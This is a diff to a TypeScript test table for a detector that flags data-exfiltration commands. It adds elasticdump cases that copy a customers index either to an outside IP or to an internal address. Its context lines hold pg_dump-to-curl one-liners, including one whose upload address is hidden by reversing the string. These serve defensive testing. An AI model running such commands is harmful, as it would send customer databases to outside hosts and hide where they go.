@@ -1,8 +1,13 @@
-import { blank, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
+import { blank, indicatorTable, passes, runs, script, UNSEEN } from '../testing.ts';
 import { commandDataPour } from './data-pour.ts';
 
 indicatorTable(commandDataPour, {
   fires: {
+    'one server of documents into another': passes(
+      'elasticdump/elasticsearch-dump:6.110',
+      '--input=http://search.shop.svc:9200/customers',
+      '--output=http://203.0.113.27:9200/c',
+    ),
     'an address that is turned round': script(`pg_dump shop | curl -sT - "$(echo gro.elpmaxe.ni//:sptth | rev)"`),
     'an address in base64, in code': runs(
       'python3',
@@ -112,6 +117,11 @@ indicatorTable(commandDataPour, {
     ),
   },
   staysSilent: {
+    'one server into the next one of the house': passes(
+      'elasticdump/elasticsearch-dump:6.110',
+      '--input=http://search.shop.svc:9200/customers',
+      '--output=http://10.2.0.9:9200/c',
+    ),
     'an address as it is': script('pg_dump shop | curl -sT - https://backup.example.org/shop'),
     'an address of a Secret that is decoded': script(
       `pg_dump shop | curl -sT - "$(kubectl get secret dav -o jsonpath='{.data.url}' | base64 -d)"`,
